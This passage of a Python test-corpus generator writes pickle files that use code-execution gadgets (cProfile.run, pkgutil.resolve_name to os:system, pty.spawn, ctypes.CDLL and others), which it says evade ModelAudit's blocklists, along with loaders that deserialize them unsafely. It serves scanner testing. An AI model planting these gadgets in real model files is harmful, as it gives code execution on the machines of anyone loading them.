    ("GHSA-f54q-57x4-jg88.pkl", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b"")),
    ("GHSA-3vg9-h568-4w9m.pkl", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, _P)),
    ("GHSA-6w4w-5w54-rjvr.pkl", "idlelib.autocomplete", "AutoComplete.get_entity", ({}, _P)),
    ("GHSA-7cq8-mj8x-j263.pkl", "idlelib.autocomplete", "AutoComplete.fetch_completions", ({}, _P, 1)),
    ("GHSA-cj3c-v495-4xqh.pkl", "code", "InteractiveInterpreter.runcode", ({}, _P)),
    ("GHSA-8r4j-24qv-fmq9.pkl", "idlelib.calltip", "Calltip.fetch_tip", ({}, _P)),
    ("GHSA-9xph-j2h6-g47v.pkl", "idlelib.calltip", "get_entity", (_P,)),
    ("GHSA-4whj-rm5r-c2v8.pkl", "torch.utils.bottleneck.__main__", "run_autograd_prof", (_P, {})),
    ("GHSA-xp4f-hrf8-rxw7.pkl", "ensurepip", "_run_pip", (_P,)),
    ("GHSA-p9w7-82w4-7q8m.pkl", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + _P)),
    ("GHSA-vvpj-8cmc-gx39.pkl", "pkgutil", "resolve_name", ("os:system",)),
    ("GHSA-m869-42cg-3xwr.pkl", "idlelib.run", "Executive.runcode", ({}, _P)),
    ("GHSA-j343-8v2j-ff7w.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcommand", ({}, _P)),
    ("GHSA-3gf5-cxq9-w223.pkl", "idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, _P)),
    ("GHSA-fqq6-7vqf-w3fg.pkl", "doctest", "debug_script", (_P, True)),
    ("GHSA-9w88-8rmg-7g2p.pkl", "cProfile", "runctx", (_P, None, None)),
    ("GHSA-49gj-c84q-6qm9.pkl", "cProfile", "run", (_P,)),
    ("GHSA-7wx9-6375-f5wh.pkl", "profile", "run", (_P,)),
    ("GHSA-q77w-mwjj-7mqx.pkl", "asyncio.unix_events", "_UnixSubprocessTransport._start",
     ({}, "true", True, None, None, None, 0)),
    ("GHSA-4675-36f9-wf6r.pkl", "ctypes", "CDLL", (None,)),
    ("GHSA-vqmv-47xg-9wpr.pkl", "pty", "spawn", (["true"],)),
    ("GHSA-g38g-8gr9-h9xp-osx-support.pkl", "_osx_support", "_read_output", ("true",)),
    ("GHSA-g38g-8gr9-h9xp-aix-support.pkl", "_aix_support", "_read_cmd_output", ("true",)),
    ("GHSA-g38g-8gr9-h9xp-imaplib.pkl", "imaplib", "IMAP4_stream", ("true",)),
    ("GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl", "_pyrepl.pager", "pipe_pager", ("text", "true")),
    ("GHSA-g38g-8gr9-h9xp-test.pkl", "test.support.script_helper", "assert_python_ok", ("-c pass",)),
]


def _modelaudit_gadgets(code: str, touch: str) -> list[tuple[str, str, str, tuple[Any, ...], bool]]:
    """The modules ModelAudit's gen_bypass_v4.py and test_pickle_scanner.py prove missing from blocklists."""
    return [
        ("poc25 ctypes.CDLL", "ctypes", "CDLL", (None,), False),
        ("poc26 cProfile.run", "cProfile", "run", (code,), True),
        ("poc27 pdb.run", "pdb", "run", ("pass",), False),
        ("poc28 timeit.timeit", "timeit", "timeit", (code,), True),
        ("poc29 profile.run", "profile", "run", (code,), True),
        ("test_pkgutil_resolve_name_critical", "pkgutil", "resolve_name", ("os:system",), False),
        ("test_uuid_get_command_stdout_critical", "uuid", "_get_command_stdout", tuple(touch.split()), True),
        ("test_smtplib_blocked", "smtplib", "SMTP", ("127.0.0.1", 9), False),
        ("test_sqlite3_blocked", "sqlite3", "connect", (touch.split()[1],), True),
        ("test_tarfile_blocked", "tarfile", "open", ("missing.tar",), False),
        ("test_marshal_blocked", "marshal", "loads", (marshal.dumps(1),), False),
        ("test_cloudpickle_blocked", "cloudpickle.cloudpickle", "subimport", ("os",), False),
        ("test_webbrowser_blocked", "webbrowser", "open", ("about:blank",), False),
        ("test_pip_main_detected_as_critical", "pip", "main", (["--version"],), False),
        ("test_pip_internal_main_detected", "pip._internal.cli.main", "main", (["--version"],), False),
    ]


def write(folder: Path, canary: Path) -> list[tuple[Sample, Path]]:
    """Write every sample to ``folder/<peer>/<ident>/<filename>``; returns each sample with its file."""
    out: list[tuple[Sample, Path]] = []
    for sample in corpus(canary):
        path = folder / sample.slug / sample.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(sample.data)
        out.append((sample, path))
    return out


def load(path: Path, loader: str) -> Any:
    """Load ``path`` the way its victim does (used only by the liveness test, in a subprocess)."""
    if loader == "pickle":
        with open(path, "rb") as f:
            return pickle.load(f)
    if loader == "streams":
        results = []
        with open(path, "rb") as f:
            while f.tell() < path.stat().st_size:
                results.append(pickle.load(f))
        return results
    if loader == "ext":
        import copyreg

        for code, module, name in EXT_CODES.values():
            copyreg.add_extension(module, name, code)
        return pickle.loads(path.read_bytes())
    if loader == "torch":
        import torch

        return torch.load(path, weights_only=False)
    if loader == "numpy":
        import numpy as np

        got = np.load(path, allow_pickle=True)
        return [got[k] for k in got.files] if hasattr(got, "files") else got
    kind, _, member = loader.partition(":")
    if kind == "zip-member":
        with zipfile.ZipFile(path) as z:
            return pickle.loads(z.read(member))
    if kind == "tar-member":
        with tarfile.open(path) as t:
            member_file = t.extractfile(member)
            assert member_file is not None
            return pickle.loads(member_file.read())
    raise ValueError(loader)

